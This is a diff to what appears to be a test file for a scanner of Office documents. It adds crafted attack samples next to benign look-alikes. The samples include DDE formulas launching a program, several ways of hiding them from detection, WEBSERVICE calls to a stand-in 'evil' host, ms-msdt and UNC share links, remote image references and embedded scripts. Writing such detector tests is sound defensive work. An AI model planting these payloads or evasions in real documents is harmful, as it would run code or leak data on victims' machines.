@@ -50,16 +50,22 @@ def with_relation(*about, **more) -> bytes:
     return in_document(related(*about, **more), "word/_rels/document.xml.rels")
 
 
-def sheet(formula: str) -> bytes:
+WORKSHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
+
+
+def sheet(formula: str, prefix: str = "", kind: str = WORKSHEET, before: str = "") -> bytes:
+    cell = f'<{prefix}c r="A1"><{prefix}f>{formula}</{prefix}f><{prefix}v>1</{prefix}v></{prefix}c>'
     return corpus.office(
         corpus.XLSX,
-        {"xl/worksheets/sheet1.xml": f'<worksheet><sheetData><c r="A1"><f>{formula}</f><v>1</v></c></sheetData></worksheet>'},
+        {"xl/worksheets/sheet1.xml": f"<worksheet>{before}<sheetData>{cell}</sheetData></worksheet>"},
         types=corpus.CONTENT_TYPES.replace(
-            "</Types>",
-            '<Override PartName="/xl/worksheets/sheet1.xml" '
-            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
+            "</Types>", f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kind}"/></Types>'
         ),
-    )  # fmt: skip
+    )
+
+
+def workbook(inner: str) -> bytes:
+    return corpus.office(corpus.XLSX, {"xl/workbook.xml": f"<workbook>{inner}</workbook>"})
 
 
 def with_chart(embedded: bytes, source: str = "word/charts/chart1.xml", kind: str = CHART) -> bytes:
@@ -141,6 +147,32 @@ ATTACKS = {
     "dde formula": (lambda: sheet("cmd|'/c calc'!A1"), "外部"),
     "dde formula behind references": (lambda: sheet("cmd&#x7C;'/c calc'!A1"), "外部"),
     "formula that fetches": (lambda: sheet('WEBSERVICE("http://evil/?"&amp;A1)'), "外部"),
+    "dde in a name": (lambda: workbook("<definedNames><definedName name='a'>cmd|'/c calc'!A1</definedName></definedNames>"), "外部"),
+    "dde formula in pieces": (lambda: sheet("cmd<!-- -->|'/c calc'!A1"), "外部"),
+    "dde formula as raw text": (lambda: sheet("<![CDATA[cmd|'/c calc'!A1]]>"), "外部"),
+    "dde formula after a long blank": (lambda: sheet("cmd" + " " * 8_000 + "|'/c calc'!A1", before=" " * 254_100), "外部"),
+    "dde formula behind a prefix": (lambda: sheet("cmd|'/c calc'!A1", prefix="a-b:"), "外部"),
+    "dde formula in a sheet of another type": (lambda: sheet("cmd|'/c calc'!A1", kind="application/xml"), "外部"),
+    "formula that fetches, behind references": (lambda: sheet("WEBSER&#86;ICE(A1)"), "外部"),
+    "formula that fetches, in a rule": (
+        lambda: corpus.office(corpus.XLSX, {"xl/tables/a.xml": "<t><formula1>WEBSERVICE(A1)</formula1></t>"}), "外部"
+    ),
+    "macro of another workbook": (
+        lambda: in_document(r"<x:sp xmlns:x='x' macro='\\evil\a.xls!m'/>", "xl/drawings/drawing1.xml"), "宏"
+    ),
+    "field with a link that starts a program": (lambda: in_document(document(field(' HYPERLINK "ms-msdt:/id" '))), "链接"),
+    "field with a link to a share": (
+        lambda: in_document(document(field(r' HYPERLINK \h "\\\\evil\\a.docx" \o "x"'))), "链接"
+    ),
+    "address of another computer without saying so": (lambda: with_relation("image", "http://evil/a.png", False), "外部"),
+    "picture that is a text with fields": (
+        lambda: in_document(document(field("DDE x")), "word/media/image1.png"), "DDE"
+    ),
+    "drawing with an address behind references": (
+        lambda: in_document("<v:imagedata src='&#104;ttp://evil/a'/>", "word/drawings/vmlDrawing1.vml"), "外部"
+    ),
+    "ole as a drawing": (lambda: in_document(OLE, "word/drawings/vmlDrawing1.vml"), "嵌入"),
+    "program beside the text": (lambda: in_document("WScript.Echo 1", "word/media/a.vbs"), "嵌入"),
     "two parts of one name": (lambda: corpus.office(members={"word/a.xml": "<a/>", "word/A.xml": "<a/>"}), "不规范"),
     "macros in the workbook of a chart": (
         lambda: with_chart(corpus.office(corpus.XLSX, {"xl/vbaProject.bin": b"x"})), "宏"
@@ -227,6 +259,29 @@ ORDINARY = {
             related("attachedTemplate", "file:///C:\\Users\\王\\AppData\\Templates\\Normal.dotm"), "word/_rels/settings.xml.rels"
         ),
     ),
+    "links of a copied web page": ("报告.docx", lambda: corpus.office(members={
+        "word/document.xml": document(field(' HYPERLINK "javascript:void(0)" ') + field(' HYPERLINK \\l "_Toc1" ')),
+        "word/_rels/document.xml.rels": related("hyperlink", "javascript:;"),
+    })),
+    "notes of the editor of Word": ("报告.docx", lambda: corpus.office(
+        members={"word/intelligence2.xml": "<a/>", "word/_rels/document.xml.rels": related(
+            "intelligence", "intelligence2.xml", False, "http://schemas.microsoft.com/office/2020/10/relationships")},
+    )),
+    "handwriting": ("报告.docx", lambda: corpus.office(
+        members={"word/ink/ink1.iso": "<ink/>"}, types=types(iso="application/inkml+xml"),
+    )),
+    "workbook written by a web page": ("表.xlsx", lambda: corpus.office(
+        corpus.XLSX, {"xl/worksheets/sheet1.xml": "<worksheet/>"},
+        types=types(bin="application/vnd.ms-excel.sheet.binary.macroEnabled.main", pdf="application/pdf"),
+    )),
+    "workbook of a web office": ("表.xlsx", lambda: corpus.office(corpus.XLSX, {
+        "xl/metadata": b"x", "xl/_rels/workbook.xml.rels": related(
+            "workbookmetadata", "metadata", False, "http://customschemas.google.com/relationships"),
+    }, types=corpus.CONTENT_TYPES.replace(
+        "</Types>", '<Override PartName="/xl/metadata" ContentType="application/binary"/></Types>'))),
+    "bar in the name of a sheet": ("表.xlsx", lambda: sheet("SUM('上|下'!A1,\"a|b\")")),
+    "button without its macro": ("表.xlsx", lambda: corpus.office(
+        corpus.XLSX, {"xl/drawings/drawing1.xml": "<x:sp xmlns:x='x' macro='[0]!按钮1_Click'/>"})),
     "picture lost by WPS": ("报告.docx", lambda: with_relation("image", "NULL")),
     "pictures in cells of WPS": ("表.xlsx", lambda: corpus.office(
         corpus.XLSX, {"xl/_rels/workbook.xml.rels": related("cellImage", "cellimages.xml", False, "http://www.wps.cn/2020")}
